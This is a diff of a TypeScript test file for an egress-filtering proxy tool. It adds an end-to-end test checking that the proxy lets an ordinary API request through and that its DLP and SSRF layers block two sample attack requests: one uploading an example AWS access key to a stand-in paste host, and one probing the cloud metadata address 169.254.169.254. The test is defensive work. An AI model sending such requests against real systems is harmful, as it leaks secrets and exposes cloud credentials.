@@ -1,7 +1,6 @@
 /**
  * `egress-verify proxy` on the command line: the flags of spec §1, the
- * placeholder pipeline seam (the command refuses to run without the real
- * scanners), --print-default-policy, and full runs with a test pipeline
+ * real policy pipeline end to end, --print-default-policy, and full runs with a test pipeline
  * injected: --exec (exit code passed through, proxy variables set),
  * --audit-packet (DIR, DIR.zip, DIR.zip.sha256, verifying), --duration.
  */
@@ -20,7 +19,7 @@ import { verifyPacket } from '../../src/packet/verify.js';
 import { verifyPath } from '../../src/verify/inputs.js';
 import { verifyOptions } from '../../src/verify/options.js';
 import { repoRoot } from '../helpers/fixtures.js';
-import { proxySigner, readRecords, startUpstream, testDecider, verifyDir, viaProxy } from './support.js';
+import { proxySigner, readEntries, readRecords, startUpstream, testDecider, verifyDir, viaProxy } from './support.js';
 
 function capture(): Io & { out: string[]; err: string[] } {
   const out: string[] = [];
@@ -77,12 +76,46 @@ describe('egress-verify proxy: flags and the pipeline seam', () => {
     expect(existsSync(ev)).toBe(false);
   });
 
-  it('without the real pipeline the command refuses to run (placeholder createDecider) and writes nothing', async () => {
-    const ev = join(root, 'placeholder-ev');
-    const r = await cli('proxy', '--key', keyFile, '--evidence-dir', ev, '--listen', '127.0.0.1:0');
-    expect(r.code).toBe(2);
-    expect(r.stderr).toContain('policy pipeline not wired yet');
-    expect(existsSync(ev)).toBe(false);
+  it('runs the real policy pipeline: an allowed request reaches the upstream, a DLP block and an SSRF block never do, and the evidence verifies', async () => {
+    const ev = join(root, 'real-ev');
+    const policyFile = join(root, 'testing-policy.json');
+    const policy = JSON.parse((await cli('proxy', '--print-default-policy')).stdout);
+    policy.testing = { resolve_all_to: '203.0.113.10', dial_override: `127.0.0.1:${upstream.port}`, tls_dial_override: null };
+    writeFileSync(policyFile, JSON.stringify(policy, null, 2) + '\n');
+    const before = upstream.seen.length;
+    const results: { status: number; decision: string | undefined; layer: string | undefined }[] = [];
+    const io = capture();
+    const code = await runProxy(
+      { key: keyFile, listen: '127.0.0.1:0', evidenceDir: ev, policy: policyFile, allowTestingOverrides: true },
+      [],
+      io,
+      {
+        createDecider: (await import('../../src/proxy/decider.js')).createDecider,
+        handleSignals: false,
+        onListening: async ({ port, stop }) => {
+          for (const url of [
+            'http://api.example.com/v1/items?q=books',
+            'http://paste.example.net/upload?k=AKIAIOSFODNN7EXAMPLE',
+            'http://169.254.169.254/latest/meta-data/',
+          ]) {
+            const r = await viaProxy(port, 'GET', url);
+            results.push({ status: r.status, decision: r.headers['x-egress-decision'] as string | undefined, layer: r.headers['x-egress-layer'] as string | undefined });
+          }
+          stop('graceful_shutdown');
+        },
+      },
+    );
+    expect(code).toBe(0);
+    expect(results).toEqual([
+      { status: 200, decision: 'allow', layer: undefined },
+      { status: 403, decision: 'block', layer: 'dlp' },
+      { status: 403, decision: 'block', layer: 'ssrf' },
+    ]);
+    expect(upstream.seen.length - before).toBe(1);
+    const recs = readRecords(ev);
+    expect(recs.filter((r) => r.verdict === 'block').map((r) => r.layer)).toEqual(['dlp', 'ssrf']);
+    expect(JSON.stringify(readEntries(ev))).not.toContain('AKIAIOSFODNN7EXAMPLE');
+    expect((await verifyDir(ev)).verdict).toBe('valid');
   });
 });
 
